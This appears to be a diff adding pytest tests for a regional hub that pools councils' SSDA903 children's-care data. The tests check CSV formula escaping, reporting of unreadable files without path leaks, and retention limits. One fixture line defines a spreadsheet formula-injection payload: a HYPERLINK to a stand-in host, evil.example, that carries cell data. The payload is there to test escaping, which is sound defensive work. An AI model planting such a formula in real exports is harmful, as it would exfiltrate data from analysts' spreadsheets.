@@ -1,0 +1,165 @@
+"""Findings sent again to a region's hub (SQLite and PostgreSQL): a formula in a council's cell reaches no analyst
+live; one consenting council's file that cannot be read leaves it out, named with why, and the others still answer
+with no server path or upload id; a council that leaves a region loses its consent, audited, and comes back with none."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+from collections.abc import Iterator
+from datetime import date
+from pathlib import Path
+
+import polars as pl
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy import Engine
+from sqlmodel import Session
+
+from collectors.regions import pooled
+from collectors.regions.pooled import Built
+from collectors.regions.sources import Held
+from collectors.regions.sufficiency import placements
+from indicators.store.models import Submission
+from mappings.regions.policy import use_cases
+from onereturn.settings import Settings
+from tests.apps import client_on
+from tests.collectors.regions.world import COUNCILS, REGION, Files, Region, make_files, onboard, plant
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.fixture(scope="module")
+def files(tmp_path_factory: pytest.TempPathFactory) -> Files:
+    return make_files(tmp_path_factory.mktemp("region-files"))
+
+
+class Hub:
+    """A client on a store holding the region, its councils and their kept files."""
+
+    def __init__(self, client: TestClient, region: Region, store: Engine, settings: Settings) -> None:
+        self.client, self.region, self.store, self.settings = client, region, store, settings
+
+    def council(self, code: str) -> dict[str, str]:
+        return {"X-API-Key": self.region.approvers[code]}
+
+    @property
+    def hub(self) -> dict[str, str]:
+        return {"X-API-Key": self.region.region_key}
+
+    def consent(self, code: str, *names: str) -> None:
+        given = self.client.put(
+            f"/api/agencies/{code}/consent/{REGION}", headers=self.council(code), json={"use_cases": list(names)}
+        )
+        assert given.status_code == 200, given.text
+
+
+@pytest.fixture
+def hub(store: Engine, store_settings: Settings, files: Files) -> Iterator[Hub]:
+    region = onboard(store, store_settings, files)
+    with client_on(store_settings, store) as client:
+        yield Hub(client, region, store, store_settings)
+
+
+def replant(hub: Hub, files: Files, code: str, tmp: Path, column: str, value: str) -> int:
+    """The council's SSDA903 sent again with ``value`` in every episode's ``column``, kept as its newest upload."""
+    made, _ = files.folders[code]
+    folder = tmp / code
+    folder.mkdir()
+    copies = [Path(shutil.copy(path, folder / path.name)) for path in made]
+    episodes = folder / "episodes.csv"
+    rows = list(csv.DictReader(episodes.open()))
+    for row in rows:
+        row[column] = value
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
+    writer.writeheader()
+    writer.writerows(rows)
+    episodes.write_text(out.getvalue())
+    return plant(hub.store, hub.settings, code, "903", copies)
+
+
+def test_no_pooled_cell_runs_as_a_formula() -> None:
+    table = use_cases()["pan"].tables["ssda903_episodes"]
+    frame = pl.DataFrame({"council": ["E10000024"] * 3, "URN": [FORMULA, "@SUM(A1:A9)", "-12"]})
+    text = Built(use_cases()["pan"], table, frame).csv().decode()
+    cells = [row[1] for row in csv.reader(io.StringIO(text))][1:]
+    assert cells == ["'" + FORMULA, "'@SUM(A1:A9)", "-12"]
+
+
+def test_a_formula_sent_in_a_kept_column_reaches_the_region_harmless(hub: Hub, files: Files, tmp_path: Path) -> None:
+    for code in COUNCILS:
+        hub.consent(code, "pan", "sufficiency")
+    replant(hub, files, "notts_cyp", tmp_path, "URN", FORMULA)
+    for path in (
+        f"/api/regions/{REGION}/pan/ssda903_episodes.csv",
+        f"/api/regions/{REGION}/sufficiency/placements.csv",
+    ):
+        answer = hub.client.get(path, headers=hub.hub)
+        assert answer.status_code == 200, answer.text
+        cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "@", "+")], path
+        assert "E10000024" in answer.headers["x-councils"], path
+
+
+def test_a_council_whose_file_cannot_be_read_is_left_out_and_the_others_answer(
+    hub: Hub, files: Files, tmp_path: Path
+) -> None:
+    for code in COUNCILS:
+        hub.consent(code, "pan", "sufficiency")
+    uploads = hub.region.uploads
+    with Session(hub.store) as session:
+        # Nottinghamshire's kept file is gone; Derbyshire's is sealed under keys the service does not hold.
+        gone = session.get(Submission, uploads[("notts_cyp", "903")])
+        assert gone is not None
+        gone.raw_path = "no-such-kept-file.zip.fernet"
+        session.add(gone)
+        session.commit()
+    elsewhere = Settings(data_dir=hub.settings.data_dir, records_keys_file=tmp_path / "other" / "keys.json")
+    plant(hub.store, elsewhere, "derbyshire_cs", "903", files.folders["derbyshire_cs"][0])
+    # Leicestershire's newest file is no SSDA903 at all.
+    junk = tmp_path / "header.csv"
+    junk.write_bytes(b"\x00\x01 not a table \xff")
+    plant(hub.store, hub.settings, "leics_cs", "903", [junk])
+    for path in (f"/api/regions/{REGION}/pan/ssda903_header.csv", f"/api/regions/{REGION}/sufficiency/placements.csv"):
+        answer = hub.client.get(path, headers=hub.hub)
+        assert answer.status_code == 200, answer.text
+        assert answer.headers["x-councils"] == "E09000023", path
+        left = answer.headers["x-left-out"]
+        assert "E10000024 (notts_cyp)" in left
+        assert "missing" in left
+        assert "E10000007 (derbyshire_cs)" in left
+        assert "sealed under keys" in left
+        assert "E10000018 (leics_cs)" in left
+        assert "could not be read" in left
+        said = left + answer.text
+        assert str(hub.settings.data_dir) not in said
+        assert "fernet" not in said
+        assert not [str(i) for i in hub.region.uploads.values() if f"submission {i}" in said or f"upload {i}" in said]
+    figures = hub.client.get(f"/api/regions/{REGION}/figures", headers=hub.hub)
+    assert figures.status_code == 200, figures.text
+    assert any("E10000024 (notts_cyp)" in said for said in figures.json()["left_out"])
+
+
+def test_the_upn_lookup_reads_no_file_outside_the_use_cases_retention(
+    hub: Hub, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hub.consent("notts_cyp", "sufficiency")
+    with Session(hub.store) as session:
+        census = session.get(Submission, hub.region.uploads[("notts_cyp", "cin")])
+        assert census is not None
+        census.collection_year = "2016-17"  # inside no year of sufficiency's 7 in 2026
+        session.add(census)
+        session.commit()
+    read: list[str] = []
+    real = pooled.read_tables
+
+    def reading(engine: Engine, settings: Settings, held: Held) -> dict[str, pl.DataFrame]:
+        read.append(f"{held.library} {held.collection_year}")
+        return real(engine, settings, held)
+
+    monkeypatch.setattr(pooled, "read_tables", reading)
+    built = placements(hub.store, hub.settings, REGION, date(2025, 3, 31))
+    assert built.frame.height > 0
+    assert read == ["903 2024-25"]
